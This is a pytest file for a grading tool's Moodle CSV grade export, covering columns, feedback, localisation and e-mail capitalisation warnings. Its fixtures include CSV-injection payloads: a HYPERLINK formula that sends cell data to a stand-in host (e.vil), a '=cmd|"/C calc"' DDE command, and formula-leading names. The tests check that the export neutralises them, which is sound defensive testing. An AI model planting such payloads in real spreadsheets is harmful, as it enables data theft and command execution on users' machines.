"""``grades_moodle.csv`` in the layout of Moodle's own grade export, feedback included, and the
warning about e-mail identifiers with capitals; no worker world and no kit command (the whole
``dtlab grade --export`` run is test_lms_export.py's).

Moodle's *Export ▸ Plain text file* (grade/export/txt) writes the user fields ``First name, Last
name, ID number, Institution, Department, Email address`` by default, then, per grade item, a
column headed ``NAME (Real)`` and, with feedback, one headed ``NAME (Feedback)`` (the language
string ``gradeexportcolumntype``, ``{name} ({extra})``). Its CSV import reads such a file back:
the teacher maps an identifier column to a user field, and each item's columns to the item and to
"Feedback for" it. Importing an item's feedback overwrites its grades, so both are always sent.
"""

import csv

import pytest

from graders.grading import class_pipeline as pipeline
from graders.grading.class_pipeline import ClassState, Exports
from graders.grading.lms import gradebooks
from graders.grading.reports import outputs
from graders.grading.result import Settings

from .test_class_pipeline import a_class, graded
from .test_lms_export import read, write_roster
from .test_outputs import result

ROSTER = [
    ["id", "first_name", "last_name", "email", "username", "idnumber"],
    ["an", "Ánh", "Nguyễn Văn", "An.Nguyen@uni.edu.vn", "anh.nv", "SV001"],
    ["binh", "Bình", "Trần", "binh.tran@uni.edu.vn", "binh.t", "SV002"],
    ["chi", "", "", "chi.le@uni.edu.vn", "chi.l", ""],  # the roster knows no name
    ["evil", "@SUM(1+1)", "-2+3", "EVIL@uni.edu.vn", "evil", "=1+1"],
]
HOSTILE_NOTE = 'ignored "a, b".py\n=HYPERLINK("http://e.vil/?"&A1,"click")\x1b[31m<b>'
RESULTS = [
    result(
        "an",
        passed=[("ch2.ring_shift", "result")],
        failed=[("ch2.broadcast", "result", "wrong", "rank 2 got 3")],
    ),
    result("chi", passed=[("ch2.ring_shift", "result")], notes=[HOSTILE_NOTE]),
    result("evil", error="grading took longer than the 600 s limit and was stopped"),
]
USER_COLUMNS = ["First name", "Last name", "ID number", "Institution", "Department", "Email address"]


@pytest.fixture
def roster(tmp_path):
    return outputs.read_roster(write_roster(tmp_path / "roster.csv", ROSTER))


def test_the_file_has_moodles_export_columns_and_a_feedback_column(tmp_path, roster):
    export = gradebooks.moodle(RESULTS, "ch2", tmp_path, roster, assignment="Assignment: Lab 2")
    rows = read(tmp_path / "grades_moodle.csv")
    assert rows[0] == [*USER_COLUMNS, "Assignment: Lab 2 (Real)", "Assignment: Lab 2 (Feedback)"]
    assert [row[:6] for row in rows[1:]] == [
        ["Ánh", "Nguyễn Văn", "SV001", "", "", "An.Nguyen@uni.edu.vn"],
        ["Bình", "Trần", "SV002", "", "", "binh.tran@uni.edu.vn"],
        ["", "", "", "", "", "chi.le@uni.edu.vn"],  # no name in the roster: left empty
        # a name a spreadsheet would run gets an apostrophe; so does an ID number not matched on
        ["'@SUM(1+1)", "'-2+3", "'=1+1", "", "", "EVIL@uni.edu.vn"],
    ]
    grades = {row[5]: row[6:] for row in rows[1:]}
    assert grades["An.Nguyen@uni.edu.vn"] == [
        "1",
        "total: 1/20 · ch2.ring_shift 1/1 passed · "
        "ch2.broadcast 0/2 failed (result: wrong result, tree: not run)",
    ]
    assert grades["binh.tran@uni.edu.vn"] == ["0", "total: 0/20 · no submission"]  # both always sent
    assert grades["EVIL@uni.edu.vn"][1].startswith("total: 0/20 · grading stopped early: grading took")
    assert export.written == ["an", "binh", "chi", "evil"] and export.skipped == []


def test_feedback_with_commas_quotes_newlines_and_formulas_stays_one_quoted_cell(tmp_path, roster):
    gradebooks.moodle(RESULTS, "ch2", tmp_path, roster, assignment="Lab 2")
    text = (tmp_path / "grades_moodle.csv").read_text(encoding="utf-8-sig")
    chi = next(line for line in text.splitlines() if "chi.le@" in line)
    # the CSV quotes the cell and doubles its quotes; the newline and the escape are gone, and
    # what Moodle would read as HTML is escaped
    assert chi.endswith(
        ',"total: 1/20 · ch2.ring_shift 1/1 passed · ignored ""a, b"".py '
        '=HYPERLINK(""http://e.vil/?""&amp;A1,""click"")[31m&lt;b&gt;"'
    )
    feedback = read(tmp_path / "grades_moodle.csv")[3][-1]  # read() checks no cell starts a formula
    assert feedback == 'total: 1/20 · ch2.ring_shift 1/1 passed · ignored "a, b".py =HYPERLINK(' + (
        '"http://e.vil/?"&amp;A1,"click")[31m&lt;b&gt;'
    )


def test_a_hostile_assignment_name_heads_inert_columns(tmp_path, roster):
    gradebooks.moodle(RESULTS, "ch2", tmp_path, roster, assignment='=cmd|"/C calc"!A0')
    assert read(tmp_path / "grades_moodle.csv")[0][6:] == [
        '\'=cmd|"/C calc"!A0 (Real)',
        '\'=cmd|"/C calc"!A0 (Feedback)',
    ]


def test_feedback_is_in_the_runs_language(tmp_path, roster):
    gradebooks.moodle(RESULTS, "ch2", tmp_path, roster, assignment="Lab 2", lang="vi")
    rows = read(tmp_path / "grades_moodle.csv")
    assert rows[1][-1] == "tổng: 1/20 · ch2.ring_shift 1/1 đạt · " + (
        "ch2.broadcast 0/2 chưa đạt (kết quả: kết quả sai, cây: chưa chạy)"
    )
    assert rows[2][-1] == "tổng: 0/20 · không có bài nộp"


@pytest.mark.parametrize(
    ("identifier", "extra", "matched"),
    [("username", ["Username"], ["anh.nv", "binh.t", "chi.l", "evil"]), ("idnumber", [], ["SV001", "SV002"])],
)
def test_the_other_identifiers_keep_the_layout(tmp_path, roster, identifier, extra, matched):
    export = gradebooks.moodle(RESULTS, "ch2", tmp_path, roster, assignment="Lab 2", identifier=identifier)
    rows = read(tmp_path / "grades_moodle.csv")
    assert rows[0] == [*USER_COLUMNS, *extra, "Lab 2 (Real)", "Lab 2 (Feedback)"]
    column = rows[0].index(gradebooks.MOODLE_IDENTIFIERS[identifier])
    assert [row[column] for row in rows[1:]] == matched
    assert export.capitalised == [], "only e-mail identifiers are compared capitals and all"


def test_capitalised_email_identifiers_are_named_and_still_written(tmp_path, roster):
    export = gradebooks.moodle(RESULTS, "ch2", tmp_path, roster, assignment="Lab 2")
    assert export.capitalised == ["An.Nguyen@uni.edu.vn", "EVIL@uni.edu.vn"]
    assert len(export.written) == 4
    warning = gradebooks.email_case_warning(export, "en")
    assert warning.startswith("grades_moodle.csv: Moodle matches e-mail addresses capitals and all")
    assert "2 address(es) here have capitals: An.Nguyen@uni.edu.vn, EVIL@uni.edu.vn." in warning
    assert "--moodle-id idnumber" in warning and "exactly as Moodle's own grade export" in warning
    vi = gradebooks.email_case_warning(export, "vi")
    assert "phân biệt chữ hoa và chữ thường" in vi and "2 địa chỉ" in vi
    assert "An.Nguyen@uni.edu.vn, EVIL@uni.edu.vn" in vi and "--moodle-id idnumber" in vi
    assert "danh sách lớp" in vi
    lower = gradebooks.Export("moodle", tmp_path / "grades_moodle.csv")
    assert gradebooks.email_case_warning(lower, "en") == ""


@pytest.mark.parametrize(
    ("lang", "said", "not_said"),
    [
        ("en", "Moodle matches e-mail addresses capitals and all", "phân biệt"),
        ("vi", "Moodle so khớp địa chỉ email có phân biệt chữ hoa và chữ thường", "capitals and all"),
    ],
)
def test_the_pipeline_warns_in_the_runs_language(tmp_path, capsys, roster, lang, said, not_said):
    run = a_class(tmp_path, settings=Settings.of("ch2", lang=lang))
    state = ClassState(outcome=graded(*RESULTS).outcome, roster=roster)
    pipeline.ExportLMS(Exports(("moodle",)))(run, state)
    printed = capsys.readouterr()
    assert said in printed.err and not_said not in printed.err
    assert "An.Nguyen@uni.edu.vn, EVIL@uni.edu.vn" in printed.err
    with open(run.out / "grades_moodle.csv", encoding="utf-8-sig", newline="") as fh:
        assert len(list(csv.reader(fh))) == 5, "the warning does not stop the export"
